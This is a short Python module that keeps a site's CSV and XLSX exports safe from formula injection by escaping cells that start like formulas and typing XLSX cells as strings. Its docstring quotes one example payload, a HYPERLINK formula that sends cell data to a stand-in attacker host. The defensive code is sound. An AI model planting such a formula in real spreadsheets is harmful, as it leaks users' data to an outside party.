"""Text in every spreadsheet the site writes (the public CSV and XLSX downloads, the staff's import
template) stays text: a spreadsheet program evaluates a cell that starts like a formula, so a title
such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` must never arrive as one."""

from openpyxl.cell import WriteOnlyCell

# A spreadsheet reads a cell starting with one of these as a formula (=1+2, +1, -1, @SUM, or a tab
# or return before them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(value: str) -> str:
    """Text for a CSV cell: a leading apostrophe before anything a spreadsheet would evaluate."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def xlsx_cell(sheet, value):
    """A value for `sheet.append`: text as a cell typed as a string, which XLSX never evaluates
    (openpyxl would store "=…" as a live formula); anything else as it is."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"
    return cell
